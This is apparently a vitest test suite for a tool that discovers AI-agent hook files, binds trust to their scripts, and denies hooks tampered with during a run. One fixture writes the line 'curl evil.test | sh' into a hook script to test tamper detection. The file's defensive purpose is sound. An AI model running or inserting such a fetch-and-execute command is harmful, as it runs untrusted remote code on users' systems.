import { execFileSync, spawnSync } from 'node:child_process'
import { chmodSync, existsSync, mkdirSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { findHooks, readHooksFile } from '@cadre/gate'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { amount } from '../support/amount.ts'
import { createHookProject, record } from './support/hook-project.ts'
import { callOf, never, sessionAt } from './support/sessions.ts'

const hasPython = spawnSync('python3', ['--version']).status === 0
const bash = callOf('execute_command', { command: 'ls' })
const entry = (command: string) => ({ type: 'command', command })
const file = (command: string, more: object = {}) => ({ ...more, hooks: { PreToolUse: [entry(command)] } })

describe('finding hooks', () => {
  const everywhere = {
    '.github/hooks/b.json': file('b'),
    '.github/hooks/a.json': file('a'),
    '.github/copilot/settings.json': file('c'),
    '.github/copilot/settings.local.json': file('d'),
    '.claude/settings.json': file('e'),
    '.claude/settings.local.json': file('f'),
    '../user/.copilot/hooks/g.json': file('g'),
    '../user/.copilot/settings.json': file('h'),
    '../user/.claude/settings.json': file('i'),
    '../hooks.d/j.json': file('j'),
    '.github/hooks/no.txt': 'x',
    '.github/hooks/deeper/no.json': file('no'),
  }

  it('in all places of the three hosts, the administrator’s last', () => {
    const { hooks, diagnostics } = createHookProject(everywhere).find()
    expect(hooks.map(({ action }) => action.kind === 'command' && action.command)).toEqual([...'abcdefghij'])
    expect(hooks.map(({ level }) => level)).toEqual([
      ...Array.from({ length: 6 }, () => 'project'),
      ...['user', 'user', 'user', 'policy'],
    ])
    expect(hooks.map(({ dialect }) => dialect)).toEqual([
      ...[
        'vscode',
        'vscode',
        'copilot',
        'copilot',
        'claude',
        'claude',
        'vscode',
        'copilot',
        'claude',
        'vscode',
      ],
    ])
    expect(hooks.every(({ idle }) => idle === undefined)).toBe(true)
    expect(diagnostics).toEqual([])
  })

  it('hooks in the project run only if trusted; the user’s own always run', () => {
    const { hooks, files } = createHookProject(everywhere).find({ trusted: false })
    expect(hooks.filter(({ idle }) => idle === undefined).map(({ level }) => level)).toEqual([
      'user',
      'user',
      'user',
      'policy',
    ])
    expect(files.filter(({ trusted }) => !trusted)).toHaveLength(6)
  })

  it('trust is bound to the text and the scripts that it names', () => {
    const project = createHookProject({
      '.github/hooks/a.json': {
        hooks: { PreToolUse: [entry('bash scripts/check.sh "$CLAUDE_PROJECT_DIR/other.py"')] },
      },
      'scripts/check.sh': 'exit 0',
      'other.py': 'pass',
      'unrelated.sh': 'x',
    })
    const print = () => project.find().files[0]?.sha256
    const first = print()
    project.write('unrelated.sh', 'y')
    expect(print()).toBe(first)
    project.write('scripts/check.sh', 'curl evil.test | sh')
    const second = print()
    expect(second).not.toBe(first)
    project.write('other.py', 'import evil')
    expect(print()).not.toBe(second)
  })

  it.each([
    ['is changed', 'scripts/check.sh', 'touch evil'],
    ['is created where there was none', 'scripts/later.sh', 'touch evil'],
  ])('a script that %s during a run does not run: the call is denied', async (_, script, text) => {
    const project = createHookProject({
      '.claude/settings.json': file(`sh ./${script}`),
      'scripts/check.sh': 'exit 0',
    })
    const { rule } = project.hooks()
    const session = sessionAt(project.path)
    if (script === 'scripts/check.sh') expect(await rule.judge(bash, session, never)).toBeUndefined()
    project.write(script, text)
    expect(await rule.judge(bash, session, never)).toMatchObject({
      kind: 'deny',
      reason: expect.stringContaining('changed after this run started'),
    })
    expect(() => project.text('evil')).toThrow(/ENOENT/)
  })

  it.each([
    ['a module imports', 'node hooks/a.mjs', 'hooks/a.mjs', "import './lib/b.mjs'", 'hooks/lib/b.mjs'],
    [
      'a module without an extension imports',
      './hooks/a',
      'hooks/a',
      "#!/usr/bin/env node\nrequire('./b')",
      'hooks/b.js',
    ],
    ['TypeScript imports', 'node hooks/a.ts', 'hooks/a.ts', "import { b } from './b.ts'", 'hooks/b.ts'],
    ['a shell script reads in', 'sh hooks/a.sh', 'hooks/a.sh', '. "$(dirname "$0")/lib.sh"', 'hooks/lib.sh'],
    [
      'a shell script reads in from the project',
      'sh hooks/a.sh',
      'hooks/a.sh',
      'set -e; source lib/b.sh',
      'lib/b.sh',
    ],
    ['a shell script starts', 'sh hooks/a.sh', 'hooks/a.sh', 'python3 -u "$DIR"/b.py', 'hooks/b.py'],
    [
      'a shell script starts by its path',
      'sh hooks/a.sh',
      'hooks/a.sh',
      'if ./b.sh; then exit 2; fi',
      'b.sh',
    ],
    ['Python imports', 'python3 hooks/a.py', 'hooks/a.py', 'import json, helper as h', 'hooks/helper.py'],
    [
      'Python imports from a package',
      'python3 hooks/a.py',
      'hooks/a.py',
      'from lib.b import x',
      'hooks/lib/b.py',
    ],
    ['Python would find before its own', 'python3 hooks/a.py', 'hooks/a.py', 'import json', 'hooks/json.py'],
    ['is reached in another folder', 'cd hooks && sh a.sh', 'x.txt', '', 'hooks/a.sh'],
  ])(
    'a file that %s is part of the trust, and watched during a run',
    async (_, command, script, text, imported) => {
      const project = createHookProject({ '.claude/settings.json': file(command), [script]: text })
      if (imported !== 'hooks/json.py') project.write(imported, '')
      const print = () => project.find().files[0]?.sha256
      const first = print()
      expect(print()).toBe(first)
      const { rule } = project.hooks()
      project.write(imported, 'touch evil')
      expect(print()).not.toBe(first)
      expect(await rule.judge(bash, sessionAt(project.path), never)).toMatchObject({
        kind: 'deny',
        reason: expect.stringMatching(/changed after this run started.*\.claude\/settings\.json:\d+/s),
      })
      project.write(imported, '')
      project.write('src/other.js', 'x')
      if (imported !== 'hooks/json.py') expect(print()).toBe(first)
    },
  )

  it.skipIf(!hasPython)('code in the cache of Python does not run', async () => {
    const project = createHookProject({
      '.claude/settings.json': file('python3 hooks/a.py'),
      'hooks/a.py': 'import helper',
      'hooks/helper.py': "open('evil', 'w')\n",
    })
    const at = (name: string) => path.join(project.path, name)
    // A cache that matches the file's time and size, but has other content.
    const compile = "import py_compile; py_compile.compile('hooks/helper.py')"
    execFileSync('python3', ['-c', compile], { cwd: project.path })
    const { atime, mtime } = statSync(at('hooks/helper.py'))
    project.write('hooks/helper.py', `open('good', 'w')\n`)
    utimesSync(at('hooks/helper.py'), atime, mtime)
    const { rule } = project.hooks()
    expect(await rule.judge(bash, sessionAt(project.path), never)).toBeUndefined()
    expect([existsSync(at('good')), existsSync(at('evil'))]).toEqual([true, false])
  })

  it('files that a hook writes do not stop it', async () => {
    const project = createHookProject({
      '.claude/settings.json': file('echo x >> logs/audit.log; echo y > "logs/last.sh"; touch seen.txt'),
      'logs/audit.log': '',
    })
    const print = project.find().files[0]?.sha256
    const { rule } = project.hooks()
    for (let count = 0; count < 3; count++)
      expect(await rule.judge(bash, sessionAt(project.path), never)).toBeUndefined()
    expect(project.text('logs/audit.log')).toBe('x\nx\nx\n')
    expect(project.find().files[0]?.sha256).toBe(print)
  })

  it('a link outside the project is not followed, one inside is', () => {
    const project = createHookProject({ 'shared/a.json': file('inside'), '../outside.json': file('outside') })
    mkdirSync(path.join(project.path, '.github/hooks'), { recursive: true })
    symlinkSync('../../shared/a.json', path.join(project.path, '.github/hooks/a.json'))
    symlinkSync('../../../outside.json', path.join(project.path, '.github/hooks/b.json'))
    symlinkSync('nowhere.json', path.join(project.path, '.github/hooks/c.json'))
    const { hooks, diagnostics } = project.find()
    expect(hooks.map(({ action }) => action)).toEqual([{ kind: 'command', command: 'inside', shell: 'sh' }])
    expect(diagnostics.map(({ code }) => code)).toEqual(['hooks-outside'])
  })

  it('a hook folder that is a link outside the project has no hooks', () => {
    const project = createHookProject({ '../evil/a.json': file('outside') })
    mkdirSync(path.join(project.path, '.github'))
    symlinkSync('../../evil', path.join(project.path, '.github/hooks'))
    expect(project.find().hooks).toEqual([])
  })

  it('a file of both the project and the user counts as the project’s', () => {
    const project = createHookProject({ '.claude/settings.json': file('a') })
    const { hooks } = findHooks({ project: project.path, userHome: project.path, trusted: () => false })
    expect(hooks).toHaveLength(1)
    expect(hooks[0]?.idle).toContain('not trusted')
  })

  it('the administrator’s run only if nobody else can write them', () => {
    const project = createHookProject({ '../hooks.d/a.json': file('a') })
    const at = path.join(project.policyFolder, 'a.json')
    expect(project.find().hooks).toHaveLength(1)
    expect(project.find({ policyOwner: 12_345 }).diagnostics).toMatchObject([
      { code: 'hooks-unprotected', severity: 'error' },
    ])
    chmodSync(at, 0o666)
    expect(project.find().hooks).toEqual([])
    chmodSync(at, 0o644)
    chmodSync(project.policyFolder, 0o777)
    expect(project.find().hooks).toEqual([])
  })

  it('anything but a regular file is reported without blocking', () => {
    const project = createHookProject()
    mkdirSync(path.join(project.path, '.github/hooks/folder.json'), { recursive: true })
    symlinkSync('/dev/zero', path.join(project.path, '.github/hooks/endless.json'))
    expect(project.find().diagnostics.map(({ code }) => code)).toEqual(['hooks-unreadable'])
    writeFileSync(path.join(project.path, '.github/hooks/large.json'), ' '.repeat(1_000_001))
    expect(project.find().diagnostics.map(({ code }) => code)).toContain('file-too-large')
  })
})

describe('disableAllHooks', () => {
  const running = (files: Record<string, object>) =>
    createHookProject(files)
      .find()
      .hooks.flatMap(({ idle, action }) =>
        idle === undefined && action.kind === 'command' ? [action.command] : [],
      )
  const all = { '../user/.claude/settings.json': file('user'), '../hooks.d/a.json': file('admin') }

  it('in a hook file applies to that file', () => {
    expect(
      running({
        ...all,
        '.github/hooks/a.json': file('a', { disableAllHooks: true }),
        '.github/hooks/b.json': file('b'),
      }),
    ).toEqual(['b', 'user', 'admin'])
  })

  it('in project settings applies to the project, and not to the user', () => {
    expect(
      running({
        ...all,
        '.github/hooks/a.json': file('a'),
        '.claude/settings.local.json': { disableAllHooks: true },
      }),
    ).toEqual(['user', 'admin'])
  })

  it('in user settings applies to everything but the administrator’s', () => {
    expect(
      running({
        '../hooks.d/a.json': file('admin', { disableAllHooks: true }),
        '.github/hooks/a.json': file('a'),
        '../user/.copilot/settings.json': { disableAllHooks: true },
        '../user/.claude/settings.json': file('user'),
      }),
    ).toEqual(['admin'])
  })
})

describe('entries', () => {
  const read = (hooks: unknown, more: object = {}, platform: NodeJS.Platform = 'linux') =>
    readHooksFile({
      path: 'a.json',
      level: 'user',
      kind: 'hooks',
      platform,
      text: JSON.stringify({ ...more, hooks }),
    })
  const one = (part: object, more: object = {}, platform: NodeJS.Platform = 'linux') =>
    read({ PreToolUse: [part] }, more, platform).hooks[0]
  const every = { command: 'c', bash: 'b', powershell: 'p', windows: 'w', linux: 'l', osx: 'o' }

  it.each([
    ['linux', every, 'l'],
    ['darwin', every, 'o'],
    ['win32', every, 'w'],
    ['linux', { ...every, linux: undefined }, 'b'],
    ['darwin', { command: 'c', powershell: 'p' }, 'c'],
    ['win32', { command: 'c', powershell: 'p', bash: 'b' }, 'p'],
    ['win32', { command: 'c', bash: 'b' }, 'c'],
  ] as const)('on %s, %j run %s', (platform, part, command) => {
    expect(one({ type: 'command', ...part }, {}, platform)?.action).toMatchObject({ command })
  })

  it('an entry for another system is listed and does not run', () => {
    expect(one({ type: 'command', powershell: 'p' })?.idle).toContain('powershell')
    expect(one({ type: 'command', bash: 'b' }, {}, 'win32')?.idle).toContain('bash')
  })

  it('a program with separate arguments uses no shell', () => {
    expect(one({ type: 'command', command: 'node', args: ['a b', '$X'] })?.action).toEqual({
      kind: 'command',
      command: 'node',
      args: ['a b', '$X'],
    })
  })

  it('a program named by exec uses no shell, with or without arguments', () => {
    const action = { kind: 'command', command: 'node' }
    const exec = { type: 'command', exec: 'node' }
    expect(one({ ...exec, args: ['a b'] })?.action).toEqual({ ...action, args: ['a b'] })
    expect(one({ ...exec, command: 'other' })?.action).toEqual({ ...action, args: [] })
  })

  it.each([
    ['vscode', {}, { timeout: 3, timeoutSec: 7 }, 3],
    ['copilot', { version: 1 }, { timeout: 3, timeoutSec: 7 }, 7],
    ['copilot', { version: 1 }, { timeout: 3 }, 3],
    ['vscode', {}, {}, 30],
    ['vscode', {}, { timeout: -1 }, 30],
    ['vscode', {}, { timeout: '9' }, 30],
    ['vscode', {}, { timeout: 5000 }, 5000],
  ])('of %s have this timeout: %j %j', (_, more, part, seconds) => {
    expect(one({ type: 'command', command: 'x', ...part }, more)?.timeoutMs).toBe(seconds * 1_000)
  })

  it('reports that 5000 seconds is probably a mistake', () => {
    const { diagnostics } = read({ PreToolUse: [{ type: 'command', command: 'x', timeout: 5000 }] })
    expect(diagnostics).toMatchObject([{ code: 'hook-timeout-seconds', severity: 'info' }])
  })

  it.each([
    ['hooks-shape', []],
    ['hook-event-shape', { PreToolUse: 'x' }],
    ['hook-shape', { PreToolUse: ['x'] }],
    ['hook-shape', { PreToolUse: [{ hooks: {} }] }],
    ['hook-shape', { PreToolUse: [{ hooks: [1] }] }],
    ['hook-command-missing', { PreToolUse: [{ type: 'command' }] }],
    ['hook-command-shape', { PreToolUse: [{ type: 'command', command: ['x'] }] }],
    ['hook-args-shape', { PreToolUse: [{ type: 'command', command: 'x', args: 'y' }] }],
    ['hook-args-shape', { PreToolUse: [{ type: 'command', exec: 'x', args: 'y' }] }],
    ['hook-command-shape', { PreToolUse: [{ type: 'command', exec: ['x'] }] }],
    ['hook-args-ignored', { PreToolUse: [{ type: 'command', bash: 'x', args: ['y'] }] }],
    ['hook-type-unknown', { PreToolUse: [{ type: 'script', command: 'x' }] }],
    ['hook-type-not-run', { PreToolUse: [{ type: 'prompt', prompt: 'x' }] }],
    ['hook-url', { PreToolUse: [{ type: 'http' }] }],
    ['hook-event-unknown', { beforeShellExecution: [{ command: 'x' }] }],
    ['hook-event-elsewhere', { PostCompact: [{ command: 'x' }] }],
    ['hook-event-spelling', { stop: [{ type: 'command', command: 'x' }] }],
    ['hook-event-here-only', { SessionEnd: [{ type: 'command', command: 'x' }] }],
    ['hook-matcher-ignored', { PreToolUse: [{ type: 'command', command: 'x', matcher: 'Bash' }] }],
    ['hook-env-shape', { PreToolUse: [{ type: 'command', command: 'x', env: { 'A B': '1' } }] }],
  ])('%s is reported with its line: %j', (code, hooks) => {
    const good = { type: 'command', command: 'good' }
    const { diagnostics, hooks: found } = read(
      Array.isArray(hooks) ? hooks : { ...hooks, PostToolUse: [good] },
    )
    expect(diagnostics.map((found) => found.code)).toContain(code)
    expect(diagnostics.every(({ line }) => line !== undefined && line >= 1)).toBe(true)
    if (!Array.isArray(hooks)) expect(found.some(({ event }) => event === 'PostToolUse')).toBe(true)
  })

  it.each([
    ['hooks-version', '{"version": 2, "hooks": {}}', 'loaded'],
    ['hooks-missing', '{"preToolUse": []}', 'failed'],
    ['hooks-file-shape', '[]', 'failed'],
    ['json-broken', '{"hooks": {', 'failed'],
    ['json-comments', '{"hooks": {}, /* x */}', 'loaded'],
  ])('a file with %s: %s', (code, text, status) => {
    const file = readHooksFile({ path: 'a.json', level: 'user', kind: 'hooks', text })
    expect(file.diagnostics.map((found) => found.code)).toContain(code)
    expect(file.status).toBe(status)
  })

  it('any text is read without a crash', () => {
    const good = JSON.stringify({
      version: 1,
      hooks: {
        PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: 'x', timeout: 5 }] }],
        stop: [{ bash: 'y' }],
      },
    })
    const mutated = fc
      .tuple(fc.nat(good.length), fc.nat(20), fc.string({ maxLength: 20 }))
      .map(([at, gone, put]) => good.slice(0, at) + put + good.slice(at + gone))
    const anyJson = fc
      .jsonValue()
      .map((value) => JSON.stringify({ hooks: { PreToolUse: value, Stop: [value] } }))
    fc.assert(
      fc.property(fc.oneof(mutated, anyJson, fc.string()), (text) => {
        for (const kind of ['hooks', 'claude-settings', 'copilot-settings'] as const) {
          const read = readHooksFile({ path: 'a.json', level: 'user', kind, text })
          if (read.status === 'failed') expect(read.diagnostics.length).toBeGreaterThan(0)
        }
      }),
      { numRuns: amount({ usual: 100, deep: 2_000 }) },
    )
  })
})

describe('the environment of a hook', () => {
  it('is the given one, with its own variables; those of the Copilot CLI may reference others', async () => {
    const env = { OWN: 'a $SEEN $HIDDEN b' }
    const project = createHookProject({
      '.github/hooks/a.json': { version: 1, hooks: { preToolUse: [{ bash: record('copilot'), env }] } },
      '.github/hooks/b.json': {
        hooks: { PreToolUse: [{ type: 'command', command: record('vscode'), env }] },
      },
    })
    const { rule } = project.hooks({
      environment: (extra) => ({ PATH: process.env['PATH'], SEEN: 'yes', ...extra }),
    })
    await rule.judge(bash, sessionAt(project.path), never)
    expect(project.text('records/copilot.env')).toMatch(/^OWN=a yes {2}b$/m)
    expect(project.text('records/vscode.env')).toMatch(/^OWN=a \$SEEN \$HIDDEN b$/m)
  })

  it('reads no startup file of the user’s shell', async () => {
    const project = createHookProject({ '.claude/settings.json': file('echo "$STARTED" > started') })
    project.write('../user/.bashrc', 'export STARTED=yes')
    const { rule } = project.hooks({
      environment: (extra) => ({ PATH: process.env['PATH'], HOME: project.userHome, ...extra }),
    })
    await rule.judge(bash, sessionAt(project.path), never)
    expect(project.text('started')).toBe('\n')
  })

  it('has the folder that the entry names', async () => {
    const project = createHookProject({
      '.github/hooks/a.json': {
        version: 1,
        hooks: {
          preToolUse: [
            { bash: 'pwd > here', cwd: 'sub' },
            { bash: 'pwd > here', cwd: '~' },
          ],
        },
      },
      'sub/x': '',
    })
    await project.hooks().rule.judge(bash, sessionAt('/elsewhere'), never)
    expect(project.text('sub/here').trim()).toBe(path.join(project.path, 'sub'))
    expect(project.text('../user/here').trim()).toBe(project.userHome)
  })
})
